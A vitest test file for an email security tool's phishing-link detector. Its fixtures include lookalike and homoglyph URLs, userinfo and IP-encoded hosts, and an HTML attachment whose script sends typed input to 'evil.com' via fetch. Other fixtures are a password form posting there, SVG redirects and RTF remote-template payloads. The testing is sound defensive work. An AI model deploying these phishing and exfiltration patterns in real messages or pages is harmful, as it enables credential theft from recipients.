import { CODE_URL, codePicture } from '@postern/testkit/code-picture.ts'
import { describe, expect, it } from 'vitest'
import { NO_IO, testEnvelope, testMessage } from '../headers/testing.ts'
import { linksCheck } from './check.ts'

const PROSE = '<p>Hello Kim, here is the summary of our meeting on Monday, as we agreed.</p>'
const BASE64 = { 'Content-Transfer-Encoding': 'base64' }

async function findings(fields: Parameters<typeof testMessage>[0], body: string) {
  return linksCheck.run(testEnvelope(), testMessage(fields, body), NO_IO)
}

async function html(body: string): Promise<string[]> {
  const packed = Buffer.from(PROSE + body).toString('base64')
  const found = await findings({ 'Content-Type': 'text/html; charset=utf-8', ...BASE64 }, packed)
  return found.map(({ code }) => code)
}

async function attached(name: string, content: string): Promise<string[]> {
  const head = `Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="${name}"`
  const body = `--b\r\n\r\nSee attached.\r\n--b\r\n${head}\r\n\r\n${content}\r\n--b--\r\n`
  const found = await findings({ 'Content-Type': 'multipart/mixed; boundary=b' }, body)
  return found.map(({ code }) => code)
}

const link = (url: string, text = 'here'): string => `<a href="${url}">${text}</a>`
const enc = encodeURIComponent

describe('links', () => {
  it.each([
    ['link.text-host', link('https://evil.test/x', 'https://www.bank.com/login')],
    ['link.text-host', link('https://evil.test/x', '« 은행.kr »')],
    ['link.text-host', link(`https://www.google.com/url?q=${enc('https://evil.com')}`, 'www.bank.com')],
    ['link.ip', link('http://198.51.100.7/x')],
    ['link.ip', link('http://3325256711/x')],
    ['link.ip', link('http://0xc6.0x33.0x64.7/x')],
    ['link.port', link('http://evil.com:8765/x')],
    ['link.userinfo', link('https://www.bank.com@evil.test/')],
    ['link.userinfo', link('https://bank@evil.test/login')],
    ['link.mixed-script', link('https://аррӏе.com/')],
    ['link.mixed-script', link('https://pаypal.com/')],
    ['link.mixed-script', link('https://gοοgle.com/')],
    ['link.split', 'Visit evil\u00ad-login.com now'],
    ['link.script', link('javascript:x()')],
    ['link.shortener', link('https://bit.ly/abc')],
    ['link.shortener', link('https://buly.kr/abc')],
    ['link.hosted', link('https://login-kim.pages.dev/')],
    ['link.hosted', link('https://docs.google.com/forms/d/e/1/viewform')],
    ['link.hosted', link('https://x.s3.us-west-2.amazonaws.com/i.html')],
    ['link.redirect', link(`https://open.com/out?url=${enc('https://evil.com/')}`)],
    ['link.download', link('https://files.com/invoice.iso?x=1')],
  ])('%s: %s', async (code, body) => {
    expect(await html(body)).toContain(code)
  })

  it.each([
    ['the same site', link('https://click.bank.com/x', 'www.bank.com')],
    ['the same owner', link('https://www.mybank.co.kr/x', 'www.mybank.com')],
    ['its own click counter', link('https://click.partner.example/x', 'www.good.com')],
    ['a sending service', link('https://u1.ct.sendgrid.net/ls/click?x', 'www.good.com')],
    [
      'a quotation that somebody’s gateway rewrote',
      link(
        `https://eur01.safelinks.protection.outlook.com/?url=${enc('https://www.good.com/')}`,
        'www.good.com',
      ),
    ],
    ['a file', link('https://files.com/report.pdf', 'report.pdf')],
    ['a text about programming', link('https://tc39.es/x', 'Temporal.ZonedDateTime')],
    ['a mail address as a link', link('http://kim@good.com/', 'kim@good.com')],
    [
      'names in one alphabet',
      link('https://한국.kr/') + link('https://москва.рф/') + link('https://日本語bot.jp/'),
    ],
    ['a usual port', link('https://good.com:8443/x')],
    ['a company’s own site at a platform', link('https://contoso.sharepoint.com/x')],
    ['a button to share', link(`https://www.facebook.com/sharer.php?u=${enc('https://good.com/')}`)],
    ['a source file', link('https://github.com/mrdoob/three.js')],
    [
      'a newsletter of many sites',
      ['a.com', 'b.com', 'c.com', 'd.github.io'].map((host) => link(`https://${host}/`)).join(''),
    ],
  ])('nothing for %s', async (_name, body) => {
    expect(await html(body)).toEqual([])
  })

  it.each([
    ['link.page-form', 'a.html', '<html><form action="https://evil.com"><input type=password></form></html>'],
    [
      'link.page-form',
      'a.htm',
      '<html><input name=u><script>fetch("https://evil.com/"+u.value)</script></html>',
    ],
    ['link.page-redirect', 'a.html', '<html><script>location="https://evil.com/"</script></html>'],
    ['link.page-redirect', 'a.svg', '<svg onload="location.href=\'https://evil.com/\'"></svg>'],
    ['link.document-remote', 'a.rtf', '{\\rtf1{\\*\\template \\\\\\\\198.51.100.7\\\\x\\\\a.dotm}}'],
    ['link.document-remote', 'a.rtf', '{\\rtf1{\\*\\template https://evil.com/a.dotm}}'],
    [
      'link.pdf-bare',
      'a.pdf',
      '%PDF-1.4\n1 0 obj\n<</Type/Page>>\nendobj\n2 0 obj\n<</Type/Annot/Rect[100 300 400 500]/A<</URI(https://evil.com/)>>>>\nendobj',
    ],
  ])('%s: %s', async (code, name, content) => {
    expect(await attached(name, content)).toContain(code)
  })

  it.each([
    ['page.html', '<html><body>A report with <a href="https://good.com/">a link</a></body></html>'],
    [
      'page.html',
      '<html><script>document.title = location.href</script><a href="https://good.com">x</a></html>',
    ],
    ['a.rtf', '{\\rtf1{\\*\\template file:///C:/Users/Kim/Normal.dotm}}'],
    ['a.rtf', '{\\rtf1{\\*\\template \\\\\\\\fileserver\\\\letters\\\\a.dotm}}'],
    ['a.rtf', '{\\rtf1{\\*\\template https://corp.sharepoint.com/a.dotm}}'],
    ['a.rtf', '{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://good.com/"}}}'],
  ])('nothing for %s: %s', async (name, content) => {
    expect(await attached(name, content)).toEqual([])
  })

  const withCode = (text: string, from = 'lee@partner.example') => {
    const head = 'Content-Type: image/png\r\nContent-ID: <c>\r\nContent-Transfer-Encoding: base64'
    const body = `--b\r\nContent-Type: text/html\r\n\r\n${text}<img src="cid:c">\r\n--b\r\n${head}\r\n\r\n${codePicture().toString('base64')}\r\n--b--\r\n`
    return findings({ From: from, 'Content-Type': 'multipart/related; boundary=b' }, body)
  }

  it('a code that is the only way on', async () => {
    expect(CODE_URL).toContain('evil.com')
    expect(await withCode('<p>Scan this. <a href="https://www.partner.example/">Partner</a></p>')).toEqual([
      { code: 'link.code', evidence: { host: 'evil.com', name: '2' } },
      { code: 'link.code-only', evidence: { host: 'evil.com' } },
    ])
  })

  it('a code beside links, or of the sender', async () => {
    const beside = await withCode('<p>Scan this. <a href="https://good.com/">or go there</a></p>')
    expect(beside.map(({ code }) => code)).toEqual(['link.code'])
    expect((await withCode('<p>Scan this.</p>', 'a@evil.com')).map(({ code }) => code)).toEqual(['link.code'])
  })

  it('a site that no mail has led to before', async () => {
    const facts = testMessage({}, 'https://seen.com/ https://new.com/ https://www.partner.example/')
    const site = { domain: 'seen.com', firstSeen: 1, days: 1, normal: 1, unwanted: 0 }
    const history = async () => ({ ...(await NO_IO.history()), linkSite: new Map([['seen.com', site]]) })
    expect(await linksCheck.run(testEnvelope(), facts, { ...NO_IO, history })).toEqual([
      { code: 'link.host-new', evidence: { host: 'new.com' } },
    ])
    expect(await linksCheck.run(testEnvelope(), facts, NO_IO)).toEqual([])
  })

  it('names the hosts', async () => {
    const found = await findings({ 'Content-Type': 'text/html' }, link('https://evil.test/x', 'www.bank.com'))
    expect(found).toEqual([
      { code: 'link.text-host', evidence: { host: 'evil.test', shown: 'www.bank.com' } },
    ])
  })
})
